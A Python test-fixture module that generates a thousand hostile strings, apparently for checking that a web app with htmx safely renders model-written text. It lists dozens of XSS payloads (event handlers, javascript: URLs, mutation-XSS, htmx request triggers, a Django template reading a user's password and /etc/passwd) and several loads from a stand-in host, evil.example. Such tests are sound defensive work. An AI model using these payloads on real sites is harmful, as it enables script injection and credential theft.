"""A thousand texts that a model could say to make a browser or htmx do something; what runs sets `pwned`."""

from __future__ import annotations

import itertools
import random

MARK = "pwned"
CALL = f"window.{MARK}=1"
PAYLOADS = (
    f"<script>{CALL}</script>",
    f"<SCRIPT SRC=//evil.example/x.js onload='{CALL}'></SCRIPT>",
    f"<img src=x onerror={CALL}>",
    f"<svg/onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><a xlink:href='javascript:{CALL}'><text y=20>x</text></a></svg>",
    f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe>",
    f"<body onload={CALL}>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<input autofocus onfocus={CALL}>",
    f"<a href='javascript:{CALL}'>x</a>",
    f"<a href='java&#x73;cript:{CALL}'>x</a>",
    f"<form action='javascript:{CALL}'><button>x</button></form>",
    f"<button formaction='javascript:{CALL}'>x</button>",
    f"<object data='javascript:{CALL}'></object>",
    f"<embed src='data:text/html,<script>{CALL}</script>'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    f"<style>@import '//evil.example/x.css'; *{{background:url(javascript:{CALL})}}</style>",
    "<div hx-get='/cases/' hx-trigger='load'>x</div>",
    "<div data-hx-post='/accounts/logout/' hx-trigger='load' hx-vals='js:{{}}'>x</div>",
    f"<div hx-on:click='{CALL}' hx-trigger=load hx-on::load='{CALL}'>x</div>",
    "<div hx-swap-oob='true' id='next'>x</div>",
    "<div id='turn-1'>x</div><div id='room' data-socket='//evil.example/'></div>",
    f"<p style='x:expression({CALL})' class='x' onclick={CALL}>x</p>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}></style></mglyph></table></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'></noscript>",
    f"<template><script>{CALL}</script></template>",
    f"<!--><img src=x onerror={CALL}>-->",
    f"]]><img src=x onerror={CALL}>",
    f'"><img src=x onerror={CALL}>',
    f"'><img src=x onerror={CALL}>",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    "{% load static %}{{ request.user.password }}{% include '/etc/passwd' %}",
    f"&lt;img src=x onerror={CALL}&gt;",
    f"\u202e<img src=x onerror={CALL}>\u202c",
    f"<img\x00 src=x onerror={CALL}>".replace("\x00", "\x0c"),
    f"<ım​g src=x onerror={CALL}><image src=x onerror={CALL}>",
    f"</textarea></title></style></script><script>{CALL}</script>",
)
SHAPES = (
    "{}",
    "The pain is worse {} on breathing in.",
    "{0}{0}",
    "No fever {}",
    "**{}**",
    "[x]({})",
    "`{}`",
    "\n\n{}\n",
    "{} {}",
)


def hostile_texts(number: int = 1000, seed: int = 7) -> list[str]:
    """Payloads in every shape, then pairs of them at random; the same list for the same seed."""
    found = [shape.format(payload, payload) for shape, payload in itertools.product(SHAPES, PAYLOADS) if "{" in shape]
    rng = random.Random(seed)
    while len(found) < number:
        one, two = rng.sample(PAYLOADS, 2)
        cut = rng.randrange(1, len(one))
        found.append(one[:cut] + two + one[cut:])
    return found[:number]
